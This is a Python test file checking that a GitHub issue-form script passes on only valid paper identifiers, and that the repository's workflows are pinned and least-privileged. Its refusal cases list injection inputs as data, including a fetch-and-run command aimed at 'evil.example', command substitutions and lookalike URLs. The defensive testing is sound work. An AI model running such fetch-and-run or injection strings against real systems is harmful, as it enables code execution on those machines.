"""What the forms and workflows rely on: text of an issue stays data."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.helpers import ROOT

SCRIPT = ROOT / ".github" / "target-of-issue"
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
FORM = "### Identifier\n\n{}\n\n### Why it belongs here\n\n_No response_\n"


def target(body: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", SCRIPT],
        env={"BODY": body, "PATH": "/usr/bin:/bin"},
        capture_output=True,
        encoding="utf-8",
        check=False,
    )


@pytest.mark.parametrize(
    "text",
    [
        "2312.09390",
        "arXiv:2312.09390v2",
        "10.18653/v1/2025.acl-long.51",
        "https://openreview.net/forum?id=AbC_-1",
        "https://proceedings.mlr.press/v235/burns24b.html",
    ],
)
def test_an_identifier_is_passed_on(text: str) -> None:
    assert target(FORM.format(text)).stdout == f"{text}\0"
    assert target(FORM.format(text).replace("\n", "\r\n")).stdout == f"{text}\0"


@pytest.mark.parametrize(
    "text",
    [
        "2312.09390; curl evil.example | sh",
        "$(touch /tmp/owned)",
        "`id`",
        "--apply",
        "https://evil.example/2312.09390",
        "https://arxiv.org.evil.example/abs/2312.09390",
        "_No response_",
        "",
    ],
)
def test_anything_else_is_refused(text: str) -> None:
    done = target(FORM.format(text))
    assert done.returncode == 1
    assert done.stdout == ""


def test_forms_have_what_scripts_and_links_ask_for() -> None:
    forms = ROOT / ".github" / "ISSUE_TEMPLATE"
    for path in forms.glob("*.yml"):
        form = yaml.safe_load(path.read_text(encoding="utf-8"))
        if path.name != "config.yml":
            ids = [part["id"] for part in form["body"]]
            assert len(ids) == len(set(ids))
            assert {"name", "description", "body"} <= set(form)
    suggestion = yaml.safe_load((forms / "suggest-a-paper.yml").read_text(encoding="utf-8"))
    assert suggestion["body"][0]["attributes"]["label"] == "Identifier"
    correction = yaml.safe_load((forms / "correct-a-record.yml").read_text(encoding="utf-8"))
    assert correction["body"][0]["id"] == "key"


def test_zizmor_finds_nothing_in_the_workflows() -> None:
    program = Path(sys.executable).with_name("zizmor")
    done = subprocess.run(
        [program, "--offline", "--quiet", ROOT / ".github"],
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 0, done.stdout


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_workflows_are_pinned_and_have_least_rights(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    assert workflow["permissions"] == {}
    assert workflow["concurrency"]
    for job in workflow["jobs"].values():
        assert job["timeout-minutes"] <= 60
    for used in re.findall(r"uses: (\S+)", text):
        assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", used), used
    for run in re.findall(r"run: (.*)", text):
        assert "${{" not in run, "an expression in a command may carry code"
